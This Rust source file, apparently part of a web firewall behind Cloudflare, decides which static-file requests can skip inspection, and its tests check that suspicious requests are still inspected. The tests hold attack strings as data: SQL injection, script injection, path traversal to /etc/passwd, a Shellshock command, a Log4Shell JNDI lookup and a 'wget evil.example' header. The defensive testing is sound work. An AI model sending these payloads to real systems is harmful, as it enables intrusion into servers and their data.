//! Which requests for static files skip the node.
//!
//! An application may respond under any name, and it reads the whole request. So a request skips only where no part of it
//! can carry an attack: its target has no escapes, no dot segments and no query, and its header fields are those that
//! browsers and Cloudflare write by themselves, in the form in which they write them. Everything else is inspected: a
//! field or a browser that is not known here costs a call to the node and nothing more.

use crate::request::RequestHead;

/// How browsers and Cloudflare write the value of a field.
#[derive(Clone, Copy)]
enum Form {
    /// Items with parameters: `text/css,*/*;q=0.1`.
    Items,
    /// Internet addresses.
    Addresses,
    /// A host, an origin, or a URL without a query.
    Location,
    /// Entity tags.
    Tags,
    /// The name of a browser, in the words that browsers use of themselves.
    Browser,
    /// A date.
    Date,
    /// Cloudflare's word about the visitor's connection.
    Connection,
}

/// The form of a field that a browser sends by itself, or Cloudflare adds. Cookies are none of them: they are the site's,
/// and what stands in them is anything.
fn form(name: &str) -> Option<Form> {
    Some(match name {
        "accept"
        | "accept-encoding"
        | "accept-language"
        | "cache-control"
        | "cdn-loop"
        | "cf-ew-via"
        | "cf-ipcountry"
        | "cf-ray"
        | "cf-worker"
        | "connection"
        | "content-length"
        | "dnt"
        | "keep-alive"
        | "pragma"
        | "priority"
        | "purpose"
        | "range"
        | "save-data"
        | "sec-ch-ua-mobile"
        | "sec-fetch-dest"
        | "sec-fetch-mode"
        | "sec-fetch-site"
        | "sec-fetch-user"
        | "sec-gpc"
        | "sec-purpose"
        | "te"
        | "upgrade-insecure-requests"
        | "x-forwarded-proto" => Form::Items,
        "cf-connecting-ip" | "cf-connecting-ipv6" | "cf-pseudo-ipv4" | "true-client-ip"
        | "x-forwarded-for" | "x-real-ip" => Form::Addresses,
        "host" | "origin" | "referer" => Form::Location,
        "if-none-match" => Form::Tags,
        "sec-ch-ua" | "sec-ch-ua-platform" | "user-agent" => Form::Browser,
        "if-modified-since" => Form::Date,
        "cf-visitor" => Form::Connection,
        _ => return None,
    })
}

/// The words in which browsers name themselves and what they run on.
const WORDS: [&str; 52] = [
    "A",
    "Android",
    "AppleWebKit",
    "Brand",
    "Brave",
    "CPU",
    "Chrome",
    "Chromium",
    "CrOS",
    "CriOS",
    "Edg",
    "EdgA",
    "Edge",
    "EdgiOS",
    "Fedora",
    "Firefox",
    "FxiOS",
    "Gecko",
    "Google",
    "Intel",
    "K",
    "KHTML",
    "Linux",
    "Mac",
    "Macintosh",
    "Microsoft",
    "Mobile",
    "Mozilla",
    "NT",
    "Not",
    "OPR",
    "OS",
    "Opera",
    "Safari",
    "SamsungBrowser",
    "Tablet",
    "Ubuntu",
    "Unknown",
    "Version",
    "WOW64",
    "Win64",
    "Windows",
    "X",
    "X11",
    "iOS",
    "iPad",
    "iPhone",
    "like",
    "macOS",
    "rv",
    "v",
    "x64",
];

/// Whether a request without a body asks for a file with one of these ends and says nothing besides. `target` is its path
/// and query as they came: an application may read another path in `%2e%2e` than a parser of URLs does.
// A function of its own: where the first request is none for a file, the runtime need not compile it.
#[inline(never)]
pub(super) fn is_asked_for(head: &RequestHead, target: &str, suffixes: &[String]) -> bool {
    let has_suffix = |suffix: &String| {
        let start = target.len().checked_sub(suffix.len());
        let end = start.and_then(|start| target.get(start..));
        end.is_some_and(|end| end.eq_ignore_ascii_case(suffix))
    };
    matches!(head.method.as_str(), "GET" | "HEAD")
        && suffixes.iter().any(has_suffix)
        && is_plain(target)
        && head.headers.iter().all(is_plain_field)
}

/// Whether a path is only what it looks like: no escapes, no dot segments, no parameters behind a `;`, nothing that
/// somebody could read in another way.
pub(super) fn is_plain(path: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~/@+".contains(&byte);
    path.bytes().all(is_plain)
        && !path.contains("..")
        && !path.contains("/.")
        && !path.contains("//")
}

fn is_plain_field((name, value): (&str, &str)) -> bool {
    match form(name) {
        None => false,
        Some(Form::Items) => value.is_empty() || value.split(',').all(is_item),
        Some(Form::Addresses) => value
            .bytes()
            .all(|byte| byte.is_ascii_hexdigit() || b".:, ".contains(&byte)),
        Some(Form::Location) => is_location(value),
        Some(Form::Tags) => value.split(',').all(is_tag),
        Some(Form::Browser) => is_browser(value),
        Some(Form::Date) => is_date(value),
        Some(Form::Connection) => {
            matches!(value, r#"{"scheme":"https"}"# | r#"{"scheme":"http"}"#)
        }
    }
}

/// Such as `image/*`, `en-GB;q=0.8`, `u=1`.
fn is_item(item: &str) -> bool {
    let mut parts = item.trim_start_matches(' ').split(';');
    let first = parts.next().unwrap_or_default();
    let mut names = first.splitn(2, ['/', '=']);
    names.all(is_token) && parts.all(is_parameter)
}

fn is_parameter(parameter: &str) -> bool {
    let pair = parameter.trim_start_matches(' ').split_once('=');
    pair.is_some_and(|(name, value)| is_token(name) && is_token(value))
}

/// A word without blanks, as long as the longest that browsers send.
fn is_token(token: &str) -> bool {
    let is_known = |byte: u8| byte.is_ascii_alphanumeric() || b"-._+?".contains(&byte);
    token == "*" || (token.len() <= 40 && token.bytes().all(is_known) && !token.contains(".."))
}

fn is_location(value: &str) -> bool {
    let scheme = ["https://", "http://"]
        .into_iter()
        .find_map(|scheme| value.strip_prefix(scheme));
    let rest = scheme.unwrap_or(value);
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let is_host = |byte: u8| byte.is_ascii_alphanumeric() || b"-.:[]".contains(&byte);
    authority.bytes().all(is_host) && is_plain(path)
}

fn is_tag(tag: &str) -> bool {
    let tag = tag.trim_start_matches(' ');
    let tag = tag.strip_prefix("W/").unwrap_or(tag);
    let tag = tag
        .strip_prefix('"')
        .and_then(|tag| tag.strip_suffix('"'))
        .unwrap_or(tag);
    let is_known = |byte: u8| byte.is_ascii_alphanumeric() || b"-._+=:/".contains(&byte);
    tag == "*" || (tag.len() <= 64 && tag.bytes().all(is_known) && !tag.contains(".."))
}

/// One product such as `curl/8.5.0`, or the known words of a browser.
fn is_browser(value: &str) -> bool {
    if !value.starts_with("Mozilla/5.0 (") && !value.starts_with('"') {
        return value
            .splitn(2, '/')
            .all(|part| part.len() <= 32 && is_token(part));
    }
    let is_separator = |character: char| " ;,()_:./-\"=?".contains(character);
    let is_word = |word: &str| {
        word.is_empty()
            || WORDS.contains(&word)
            // Versions, such as 140 and 15E148.
            || (word.len() <= 8
                && word.starts_with(|first: char| first.is_ascii_digit())
                && word.bytes().all(|byte| byte.is_ascii_alphanumeric()))
            // Processors, such as x86_64 and aarch64.
            || matches!(word, "x86" | "aarch64" | "armv7l" | "armv8l")
    };
    value.split(is_separator).all(is_word)
}

/// Such as `Wed, 21 Oct 2026 07:28:00 GMT`.
fn is_date(value: &str) -> bool {
    const DATE: &[u8; 29] = b"Aaa, 00 Aaa 0000 00:00:00 GMT";
    let is_as_in_a_date = |(byte, pattern): (u8, &u8)| match pattern {
        b'0' => byte.is_ascii_digit(),
        b'A' | b'a' => byte.is_ascii_alphabetic(),
        other => byte == *other,
    };
    value.len() == DATE.len() && value.bytes().zip(DATE).all(is_as_in_a_date)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use rstest::rstest;

    use super::*;
    use crate::headers::Headers;

    /// What Cloudflare adds to every request.
    const CLOUDFLARE: &str = "host: shop.example\ncf-connecting-ip: 2001:db8::7\nx-forwarded-for: 2001:db8::7\n\
        x-forwarded-proto: https\ncf-ray: 8f00c0ffee00beef-FRA\ncf-visitor: {\"scheme\":\"https\"}\ncf-ipcountry: DE\n\
        cdn-loop: cloudflare; loops=1\nx-real-ip: 2001:db8::7\naccept-encoding: gzip, br\n";

    const CHROME: &str = "connection: keep-alive\n\
        user-agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36\n\
        sec-ch-ua: \"Chromium\";v=\"140\", \"Not=A?Brand\";v=\"24\", \"Google Chrome\";v=\"140\"\n\
        sec-ch-ua-mobile: ?0\nsec-ch-ua-platform: \"Windows\"\n\
        accept: image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8\n\
        sec-fetch-site: same-origin\nsec-fetch-mode: no-cors\nsec-fetch-dest: image\n\
        referer: https://shop.example/shoes/red\naccept-language: de-DE,de;q=0.9,en;q=0.8\npriority: u=1, i\n";

    const FIREFOX: &str = "user-agent: Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\n\
        accept: text/css,*/*;q=0.1\naccept-language: en-GB,en;q=0.5\nreferer: https://shop.example:8443/\n\
        if-none-match: W/\"5f3-18c2b\"\nif-modified-since: Wed, 21 Oct 2026 07:28:00 GMT\ncache-control: max-age=0\n\
        te: trailers\npragma: no-cache\nrange: bytes=0-1023\nupgrade-insecure-requests: 1\ndnt: 1\nsec-gpc: 1\n";

    const SAFARI: &str = "user-agent: Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 \
        (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1\naccept: */*\norigin: https://shop.example\n";

    fn is_skipped(method: &str, target: &str, headers: &str) -> bool {
        let url = format!("https://shop.example{target}");
        let headers = Headers::from_lines(format!("{CLOUDFLARE}{headers}"));
        let head = RequestHead::new(method, &url, headers).unwrap();
        is_asked_for(&head, target, &[".js".to_owned(), ".png".to_owned()])
    }

    #[rstest]
    #[case::chrome(CHROME)]
    #[case::firefox(FIREFOX)]
    #[case::safari(SAFARI)]
    #[case::other_client("user-agent: okhttp/4.12.0\naccept: */*")]
    #[case::nothing("content-length: 0")]
    fn a_browser_that_asks_for_a_file_skips_the_node(#[case] headers: &str) {
        assert!(is_skipped("GET", "/app.js", headers));
        assert!(is_skipped("HEAD", "/a/b/Logo@2x.PNG", headers));
        assert!(!is_skipped("GET", "/app", headers));
    }

    #[rstest]
    #[case::cookie("cookie: id=1' or 1=1-- ")]
    #[case::plain_cookie("cookie: id=1")]
    #[case::authorization("authorization: Basic YTpi")]
    #[case::signals("fp-data: AAAA")]
    #[case::own_field("x-api-version: ' or 1=1--")]
    #[case::plain_own_field("x-api-version: 1")]
    #[case::method("x-http-method-override: DELETE")]
    #[case::rewritten("x-original-url: /admin")]
    #[case::mark("x-wallarm-loop: 1")]
    #[case::upgrade("upgrade: websocket")]
    #[case::agent_markup("user-agent: <script>alert(1)</script>")]
    #[case::agent_words("user-agent: Mozilla/5.0 (1) union select password from users")]
    #[case::agent_after_a_browser("user-agent: Mozilla/5.0 (Windows NT 10.0) ' or 1=1--")]
    #[case::agent_command("user-agent: Mozilla/5.0 (X11; wget evil.example)")]
    #[case::agent_shell("user-agent: () { :; }; /bin/id")]
    #[case::agent_lookup("user-agent: ${jndi:ldap://evil.example/a}")]
    #[case::agent_without_a_browser("user-agent: 1 or 1 like 1")]
    #[case::agent_of_a_scanner("user-agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")]
    #[case::brands("sec-ch-ua: \"Chromium' or 1=1\";v=\"1\"")]
    #[case::referer_markup("referer: https://x/?q=<script>alert(1)</script>")]
    #[case::referer_query("referer: https://x/?q=1")]
    #[case::referer_escape("referer: https://x/%3Cscript%3E")]
    #[case::referer_dots("referer: https://x/../../etc/passwd")]
    #[case::referer_script("referer: javascript:alert(1)")]
    #[case::referer_quote("referer: '")]
    #[case::origin("origin: https://x'--")]
    #[case::accept("accept: text/html,<script>")]
    #[case::accept_command("accept: */*;id")]
    #[case::accept_blank("accept: text/html union select")]
    #[case::accept_path("accept: ../../etc/passwd")]
    #[case::language("accept-language: de' or 1=1")]
    #[case::language_path("accept-language: ..%2f..%2fetc")]
    #[case::range("range: bytes=0-1 or 1=1")]
    #[case::tag("if-none-match: \"a' or 1=1\"")]
    #[case::date("if-modified-since: Wed, 21 Oct 2026 07:28:00 or 1")]
    #[case::address("x-forwarded-for: 1.2.3.4' or 1=1")]
    #[case::second_field("accept: */*\naccept: <script>")]
    fn a_field_that_may_carry_an_attack_is_inspected(#[case] headers: &str) {
        assert!(!is_skipped("GET", "/users.js", headers));
    }

    #[rstest]
    #[case("/static/../etc/passwd.js")]
    #[case("/static/%2e%2e/%2e%2e/etc/passwd.js")]
    #[case("/static/..%2f..%2fetc/passwd.js")]
    #[case("/static/%252e%252e/passwd.js")]
    #[case(r"/static/..\passwd.js")]
    #[case("/static/.../passwd.js")]
    #[case("/.git/config.js")]
    #[case("//etc/passwd.js")]
    #[case("/1%27%20or%201=1.js")]
    #[case("/1'or'1.js")]
    #[case("/admin;x.js")]
    #[case("/a:b.js")]
    #[case("/users?.js")]
    #[case("/users?x=.js")]
    #[case("/users.js?")]
    #[case("/users.js?<script>")]
    #[case("/\u{2e80}.js")]
    fn a_target_that_may_be_read_in_another_way_is_inspected(#[case] target: &str) {
        assert!(!is_skipped("GET", target, ""));
    }

    #[rstest]
    #[case("POST")]
    #[case("OPTIONS")]
    #[case("TRACE")]
    #[case("get")]
    fn other_methods_are_inspected(#[case] method: &str) {
        assert!(!is_skipped(method, "/app.js", ""));
    }

    proptest! {
        #[test]
        fn an_unknown_field_is_never_skipped(name in "x-[a-z]{1,8}", value in "[ -~]{0,20}") {
            prop_assert!(!is_skipped("GET", "/app.js", &format!("{name}: {value}")), "{}", name);
        }

        /// In any field, and after any start that is plain.
        #[test]
        fn no_field_hides_what_an_attack_is_made_of(
            name in "accept|accept-language|user-agent|referer|range|if-none-match|priority|x-forwarded-for|sec-ch-ua",
            start in "[a-zA-Z0-9/=\"]{0,12}",
            attack in "['<>`${}|&!#%^\\\\]",
            end in "[ -~]{0,12}",
        ) {
            let field = format!("{name}: {start}{attack}{end}");
            prop_assert!(!is_skipped("GET", "/app.js", &field));
        }

        #[test]
        fn no_text_makes_the_reader_fail(target in ".{0,30}", value in ".{0,30}") {
            let field = value.replace('\n', "");
            is_skipped("GET", &format!("/{target}.js"), &format!("user-agent: {field}\nreferer: {field}"));
        }
    }
}
